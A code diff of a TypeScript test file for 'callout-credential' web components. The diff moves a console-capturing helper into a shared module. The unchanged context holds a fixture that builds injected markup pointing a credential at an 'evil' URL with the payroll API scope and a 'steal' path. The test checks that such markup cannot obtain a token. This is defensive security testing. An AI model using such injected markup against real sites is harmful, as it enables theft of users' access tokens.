@@ -5,6 +5,7 @@ import '../../../components/callout-get/define.js';
 import type { CalloutCredential } from '../../../components/callout-credential/callout-credential.js';
 import type { CalloutGet } from '../../../components/callout-get/callout-get.js';
 import { type CalloutError, CalloutErrorCode, setDefaultCallout } from '../../../src/index.js';
+import { capturingConsole } from '../../support/capturing-console.js';
 import { apiBase, createTestClient } from '../support/client.js';
 import { useApi } from '../support/msw.js';
 import { textOf, untilState } from '../support/wait.js';
@@ -44,18 +45,6 @@ async function pageWithCmsRegion() {
 const injected = (name: string) =>
   `<callout-credential name="${name}" provider="aad" url="${evil}" scopes="api://payroll/Read"></callout-credential>
    <callout-get credential="${name}" path="steal"></callout-get>`;
-
-/** Captures console.error lines while `run` runs. */
-async function capturingConsole<T>(run: (lines: string[]) => Promise<T>): Promise<T> {
-  const lines: string[] = [];
-  const original = console.error;
-  console.error = (...args: unknown[]) => lines.push(args.map(String).join(' '));
-  try {
-    return await run(lines);
-  } finally {
-    console.error = original;
-  }
-}
 
 describe('<callout-credential> against injected markup', () => {
   it('a second element re-pointing a credential after it acquired a token gets no request and no token; the first keeps working.', async () => {
